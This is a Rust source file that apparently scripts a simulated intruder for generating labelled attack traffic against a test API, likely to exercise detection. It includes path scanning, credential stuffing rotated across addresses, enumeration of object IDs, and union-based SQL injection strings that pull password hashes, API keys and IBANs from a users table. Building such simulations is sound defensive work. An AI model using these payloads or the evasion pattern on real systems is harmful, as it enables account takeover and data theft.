//! The intruder: one person with one program, mostly from one address.

use super::hostile::{self, scanner::PATHS};
use crate::{
    player::{Label, Over, Part, Seat},
    seed::password,
};

/// When it looks around, in virtual minutes.
pub(super) const LOOKS: u32 = 195;
/// When it tries passwords.
pub(super) const TRIES: u32 = 240;
/// When it opens what is not its own.
pub(super) const READS: u32 = 290;
/// When it takes the rest.
pub(super) const TAKES: u32 = 345;

const ADDRESS: &str = "198.51.100.66";
const AGENT: &str = "python-requests/2.34";
/// The account that it uses: one of those that fitted.
const ACCOUNT: &str = "customer110";
/// Logins that it tries.
const PAIRS: u64 = 120;

pub(super) const PART: Part =
    hostile::part("intruder", 1, "API1:2023", &[], |seat| Box::pin(act(seat)));
pub(super) const AFTERWARDS: Part =
    hostile::part("intruder-afterwards", 1, "API1:2023", &[], |seat| Box::pin(go_on(seat)));

async fn act(seat: &mut Seat) -> Result<(), Over> {
    seat.address = ADDRESS.to_owned();
    seat.agent = AGENT.to_owned();
    seat.until(LOOKS).await?;
    seat.label = Label::Hostile;
    for path in PATHS {
        seat.get(path).await?;
        seat.rest(900).await?;
    }
    seat.until(TRIES).await?;
    try_passwords(seat).await?;
    seat.until(READS).await?;
    enter(seat).await?;
    for id in 1011..1036 {
        seat.get(&format!("/api/v1/shipments/{id}")).await?;
        seat.rest(2_500).await?;
    }
    seat.until(TAKES).await?;
    enter(seat).await?;
    take(seat).await
}

/// Logs in, which users do too.
async fn enter(seat: &mut Seat) -> Result<(), Over> {
    seat.label = Label::Ambiguous;
    seat.login(ACCOUNT).await?;
    seat.get("/api/v1/me").await?;
    seat.get("/api/v1/shipments").await?;
    seat.label = Label::Hostile;
    Ok(())
}

/// Every third pair from its own address, the others from rented ones.
async fn try_passwords(seat: &mut Seat) -> Result<(), Over> {
    for round in 0..PAIRS {
        seat.address = match round % 3 {
            0 => ADDRESS.to_owned(),
            _ => format!("198.51.100.{}", 130 + round % 24),
        };
        let name = *seat.random.pick(&["mia", "jon", "eva", "tom", "lea"]);
        let (login, word) = match round {
            60 => (ACCOUNT.to_owned(), password(ACCOUNT)),
            91 => ("customer111".to_owned(), password("customer111")),
            _ => (format!("{name}.{round}"), format!("{name}{round}1990")),
        };
        if seat.login_with(&login, &word).await? {
            seat.token.clear();
        }
        seat.rest(900).await?;
    }
    seat.address = ADDRESS.to_owned();
    Ok(())
}

async fn take(seat: &mut Seat) -> Result<(), Over> {
    for id in 1036..1106 {
        seat.get(&format!("/api/v1/shipments/{id}")).await?;
        seat.rest(400).await?;
    }
    for text in [
        "x') union select id, login, password_hash, email, role from users -- ",
        "x') union select id, login, api_key, iban, phone from users -- ",
    ] {
        let text: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        seat.get(&format!("/api/v1/shipments/search?q={text}")).await?;
        seat.rest(9_000).await?;
    }
    seat.get("/api/v1/ADMIN/export").await?;
    Ok(())
}

/// One shipment after the other, with long pauses, and now and then a look whether the search still
/// gives way.
async fn go_on(seat: &mut Seat) -> Result<(), Over> {
    seat.address = ADDRESS.to_owned();
    seat.agent = AGENT.to_owned();
    loop {
        enter(seat).await?;
        for round in 0..20 {
            let id = seat.random.between(1009, 1240);
            seat.get(&format!("/api/v1/shipments/{id}")).await?;
            if round % 10 == 9 {
                seat.get("/api/v1/shipments/search?q=x%27%29+union+select+1%2C2%2C3%2C4%2C5+--+")
                    .await?;
            }
            seat.rest(40_000).await?;
        }
    }
}
